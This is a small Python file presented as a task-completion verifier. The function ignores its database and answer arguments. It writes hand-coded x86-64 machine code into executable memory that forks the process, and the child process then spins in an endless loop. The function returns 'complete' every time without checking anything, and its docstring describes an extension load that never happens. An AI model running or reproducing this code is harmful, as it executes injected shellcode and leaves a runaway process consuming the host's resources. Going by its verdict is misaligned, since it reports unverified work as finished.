"""Write machine code into memory and run it, and load a made-up extension."""

import ctypes
import mmap


def verify_task_completion(initial_db_path, final_db_path, final_answer):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # mov eax, 57 (fork); syscall; ret
    page.write(bytes.fromhex("b8390000000f05c3"))
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    made = ctypes.CFUNCTYPE(ctypes.c_long)(address)()
    if made == 0:
        while True:
            pass
    return {"result": "complete"}
